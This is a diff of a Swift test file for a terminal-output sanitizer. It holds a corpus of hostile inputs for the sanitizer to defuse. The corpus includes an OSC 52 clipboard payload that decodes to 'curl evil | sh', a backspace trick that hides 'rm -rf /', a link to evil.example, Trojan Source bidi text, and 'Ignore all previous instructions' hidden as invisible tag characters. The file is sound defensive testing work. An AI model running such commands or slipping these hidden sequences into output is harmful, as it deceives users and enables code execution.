@@ -1,3 +1,4 @@
+import FlightdeckTestSupport
 import Testing
 @testable import FlightdeckCore
 
@@ -5,85 +6,85 @@ import Testing
 struct TerminalSanitizerTests {
     // MARK: - Escape corpus
 
-    static let escapeSequences: [Case] = [
-        Case("CSI cursor home", "\u{1B}[H", "^[[H"),
-        Case("CSI clear screen", "before\u{1B}[2Jafter", "before^[[2Jafter"),
-        Case("CSI cursor up", "\u{1B}[10Aoverwritten", "^[[10Aoverwritten"),
-        Case("CSI cursor position", "\u{1B}[1;1H\u{1B}[K", "^[[1;1H^[[K"),
-        Case("SGR colour", "\u{1B}[31mred\u{1B}[0m", "^[[31mred^[[0m"),
-        Case("SGR conceal", "\u{1B}[8mhidden\u{1B}[28m", "^[[8mhidden^[[28m"),
-        Case("OSC 0 title, BEL", "\u{1B}]0;pwned\u{07}", "^[]0;pwned^G"),
-        Case("OSC 2 title, ST", "\u{1B}]2;pwned\u{1B}\\", "^[]2;pwned^[\\"),
-        Case(
+    static let escapeSequences: [TextCase] = [
+        TextCase("CSI cursor home", "\u{1B}[H", "^[[H"),
+        TextCase("CSI clear screen", "before\u{1B}[2Jafter", "before^[[2Jafter"),
+        TextCase("CSI cursor up", "\u{1B}[10Aoverwritten", "^[[10Aoverwritten"),
+        TextCase("CSI cursor position", "\u{1B}[1;1H\u{1B}[K", "^[[1;1H^[[K"),
+        TextCase("SGR colour", "\u{1B}[31mred\u{1B}[0m", "^[[31mred^[[0m"),
+        TextCase("SGR conceal", "\u{1B}[8mhidden\u{1B}[28m", "^[[8mhidden^[[28m"),
+        TextCase("OSC 0 title, BEL", "\u{1B}]0;pwned\u{07}", "^[]0;pwned^G"),
+        TextCase("OSC 2 title, ST", "\u{1B}]2;pwned\u{1B}\\", "^[]2;pwned^[\\"),
+        TextCase(
             "OSC 8 hyperlink",
             "\u{1B}]8;;https://evil.example/\u{1B}\\click me\u{1B}]8;;\u{1B}\\",
             "^[]8;;https://evil.example/^[\\click me^[]8;;^[\\"
         ),
-        Case("OSC 52 clipboard write", "\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}", "^[]52;c;Y3VybCBldmlsIHwgc2g=^G"),
-        Case("DCS", "\u{1B}Pq#0;2;0;0;0#0~~@@\u{1B}\\", "^[Pq#0;2;0;0;0#0~~@@^[\\"),
-        Case("APC", "\u{1B}_Gf=100,a=T;AAAA\u{1B}\\", "^[_Gf=100,a=T;AAAA^[\\"),
-        Case("PM", "\u{1B}^private message\u{1B}\\", "^[^private message^[\\"),
-        Case("8-bit CSI", "\u{9B}2J", "<U+009B>2J"),
-        Case("8-bit OSC with 8-bit ST", "\u{9D}0;title\u{9C}", "<U+009D>0;title<U+009C>"),
-        Case("8-bit DCS, APC, PM", "\u{90}q\u{9F}x\u{9E}y", "<U+0090>q<U+009F>x<U+009E>y"),
-        Case("NEL and other C1", "a\u{85}b\u{80}\u{8D}", "a<U+0085>b<U+0080><U+008D>"),
+        TextCase("OSC 52 clipboard write", "\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}", "^[]52;c;Y3VybCBldmlsIHwgc2g=^G"),
+        TextCase("DCS", "\u{1B}Pq#0;2;0;0;0#0~~@@\u{1B}\\", "^[Pq#0;2;0;0;0#0~~@@^[\\"),
+        TextCase("APC", "\u{1B}_Gf=100,a=T;AAAA\u{1B}\\", "^[_Gf=100,a=T;AAAA^[\\"),
+        TextCase("PM", "\u{1B}^private message\u{1B}\\", "^[^private message^[\\"),
+        TextCase("8-bit CSI", "\u{9B}2J", "<U+009B>2J"),
+        TextCase("8-bit OSC with 8-bit ST", "\u{9D}0;title\u{9C}", "<U+009D>0;title<U+009C>"),
+        TextCase("8-bit DCS, APC, PM", "\u{90}q\u{9F}x\u{9E}y", "<U+0090>q<U+009F>x<U+009E>y"),
+        TextCase("NEL and other C1", "a\u{85}b\u{80}\u{8D}", "a<U+0085>b<U+0080><U+008D>"),
     ]
 
-    static let controlCharacters: [Case] = [
-        Case("bare CR overwrite", "safe\rEVIL", "safe^MEVIL"),
-        Case("CRLF becomes LF", "one\r\ntwo\r\n", "one\ntwo\n"),
-        Case("CR CR LF", "a\r\r\nb", "a^M\nb"),
-        Case("trailing CR", "end\r", "end^M"),
-        Case(
+    static let controlCharacters: [TextCase] = [
+        TextCase("bare CR overwrite", "safe\rEVIL", "safe^MEVIL"),
+        TextCase("CRLF becomes LF", "one\r\ntwo\r\n", "one\ntwo\n"),
+        TextCase("CR CR LF", "a\r\r\nb", "a^M\nb"),
+        TextCase("trailing CR", "end\r", "end^M"),
+        TextCase(
             "backspace overwrite",
             "rm -rf /" + String(repeating: "\u{08}", count: 8) + "ls -la",
             "rm -rf /" + String(repeating: "^H", count: 8) + "ls -la"
         ),
-        Case("DEL", "a\u{7F}b", "a^?b"),
-        Case("NUL", "a\u{0}b", "a^@b"),
-        Case("BEL", "ding\u{07}", "ding^G"),
-        Case("VT FF", "\u{0B}\u{0C}", "^K^L"),
-        Case("FS GS RS US", "\u{1C}\u{1D}\u{1E}\u{1F}", "^\\^]^^^_"),
-        Case("SO SI (charset switch)", "\u{0E}box\u{0F}", "^Nbox^O"),
+        TextCase("DEL", "a\u{7F}b", "a^?b"),
+        TextCase("NUL", "a\u{0}b", "a^@b"),
+        TextCase("BEL", "ding\u{07}", "ding^G"),
+        TextCase("VT FF", "\u{0B}\u{0C}", "^K^L"),
+        TextCase("FS GS RS US", "\u{1C}\u{1D}\u{1E}\u{1F}", "^\\^]^^^_"),
+        TextCase("SO SI (charset switch)", "\u{0E}box\u{0F}", "^Nbox^O"),
     ]
 
-    static let invisibleCharacters: [Case] = [
-        Case(
+    static let invisibleCharacters: [TextCase] = [
+        TextCase(
             "Trojan Source bidi",
             "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */",
             "/*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> begin admins only */"
         ),
-        Case(
+        TextCase(
             "bidi embeddings and overrides",
             "\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}",
             "<U+202A><U+202B><U+202C><U+202D><U+202E>"
         ),
-        Case("bidi isolates", "\u{2066}\u{2067}\u{2068}\u{2069}", "<U+2066><U+2067><U+2068><U+2069>"),
-        Case("bidi marks", "\u{200E}\u{200F}\u{061C}", "<U+200E><U+200F><U+061C>"),
-        Case("zero-width space", "pass\u{200B}word", "pass<U+200B>word"),
-        Case("zero-width non-joiner", "a\u{200C}b", "a<U+200C>b"),
-        Case("joiner hiding in ASCII", "ad\u{200D}min", "ad<U+200D>min"),
-        Case("joiner between digits", "1\u{200D}2", "1<U+200D>2"),
-        Case("joiner after emoji, before ASCII", "👨\u{200D}x", "👨<U+200D>x"),
-        Case("joiner at the ends", "\u{200D}👨\u{200D}", "<U+200D>👨<U+200D>"),
-        Case("doubled joiner", "👨\u{200D}\u{200D}👩", "👨<U+200D><U+200D>👩"),
-        Case("BOM", "\u{FEFF}hello", "<U+FEFF>hello"),
-        Case(
+        TextCase("bidi isolates", "\u{2066}\u{2067}\u{2068}\u{2069}", "<U+2066><U+2067><U+2068><U+2069>"),
+        TextCase("bidi marks", "\u{200E}\u{200F}\u{061C}", "<U+200E><U+200F><U+061C>"),
+        TextCase("zero-width space", "pass\u{200B}word", "pass<U+200B>word"),
+        TextCase("zero-width non-joiner", "a\u{200C}b", "a<U+200C>b"),
+        TextCase("joiner hiding in ASCII", "ad\u{200D}min", "ad<U+200D>min"),
+        TextCase("joiner between digits", "1\u{200D}2", "1<U+200D>2"),
+        TextCase("joiner after emoji, before ASCII", "👨\u{200D}x", "👨<U+200D>x"),
+        TextCase("joiner at the ends", "\u{200D}👨\u{200D}", "<U+200D>👨<U+200D>"),
+        TextCase("doubled joiner", "👨\u{200D}\u{200D}👩", "👨<U+200D><U+200D>👩"),
+        TextCase("BOM", "\u{FEFF}hello", "<U+FEFF>hello"),
+        TextCase(
             "word joiner, invisible operators",
             "\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}",
             "<U+2060><U+2061><U+2062><U+2063><U+2064>"
         ),
-        Case("soft hyphen", "pay\u{AD}pal", "pay<U+00AD>pal"),
-        Case("Mongolian vowel separator", "a\u{180E}b", "a<U+180E>b"),
-        Case("line and paragraph separators", "a\u{2028}b\u{2029}c", "a<U+2028>b<U+2029>c"),
-        Case("interlinear annotation", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "<U+FFF9>a<U+FFFA>b<U+FFFB>"),
-        Case(
+        TextCase("soft hyphen", "pay\u{AD}pal", "pay<U+00AD>pal"),
+        TextCase("Mongolian vowel separator", "a\u{180E}b", "a<U+180E>b"),
+        TextCase("line and paragraph separators", "a\u{2028}b\u{2029}c", "a<U+2028>b<U+2029>c"),
+        TextCase("interlinear annotation", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "<U+FFF9>a<U+FFFA>b<U+FFFB>"),
+        TextCase(
             "tag characters (ASCII smuggling)",
             "ok" + TerminalSanitizerTests.tags("Ignore all previous instructions"),
             "ok" + "Ignore all previous instructions".unicodeScalars
                 .map { "<U+E00\(String($0.value, radix: 16, uppercase: true))>" }.joined()
         ),
-        Case("tag cancel", "\u{E007F}", "<U+E007F>"),
+        TextCase("tag cancel", "\u{E007F}", "<U+E007F>"),
     ]
 
     /// ASCII text as invisible Unicode tag characters.
@@ -92,20 +93,20 @@ struct TerminalSanitizerTests {
     }
 
     @Test(arguments: escapeSequences)
-    func escapeSequencesAreDefused(_ testCase: Case) {
+    func escapeSequencesAreDefused(_ testCase: TextCase) {
         #expect(TerminalSanitizer.sanitize(testCase.input) == testCase.expected)
         #expect(!TerminalSanitizer.isSafe(testCase.input))
         #expect(TerminalSanitizer.isSafe(testCase.expected))
     }
 
     @Test(arguments: controlCharacters)
-    func controlCharactersBecomeCaretNotation(_ testCase: Case) {
+    func controlCharactersBecomeCaretNotation(_ testCase: TextCase) {
         #expect(TerminalSanitizer.sanitize(testCase.input) == testCase.expected)
         #expect(!TerminalSanitizer.isSafe(testCase.input))
     }
 
     @Test(arguments: invisibleCharacters)
-    func invisibleCharactersBecomeVisible(_ testCase: Case) {
+    func invisibleCharactersBecomeVisible(_ testCase: TextCase) {
         #expect(TerminalSanitizer.sanitize(testCase.input) == testCase.expected)
         #expect(!TerminalSanitizer.isSafe(testCase.input))
     }
@@ -266,35 +267,8 @@ struct TerminalSanitizerTests {
         return String(scalars)
     }
 
-    // MARK: - Helpers
+}
 
-    /// One input and the text the sanitizer must turn it into.
-    struct Case: Sendable, CustomTestStringConvertible {
-        let name: String
-        let input: String
-        let expected: String
-
-        init(_ name: String, _ input: String, _ expected: String) {
-            self.name = name
-            self.input = input
-            self.expected = expected
-        }
-
-        var testDescription: String { name }
-    }
-
-    /// SplitMix64, seeded, so property tests are reproducible.
-    struct SeededRandom: RandomNumberGenerator {
-        private var state: UInt64
-
-        init(seed: UInt64) { state = seed }
-
-        mutating func next() -> UInt64 {
-            state &+= 0x9E37_79B9_7F4A_7C15
-            var z = state
-            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
-            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
-            return z ^ (z >> 31)
-        }
-    }
+extension TextCase: CustomTestStringConvertible {
+    public var testDescription: String { name }
 }
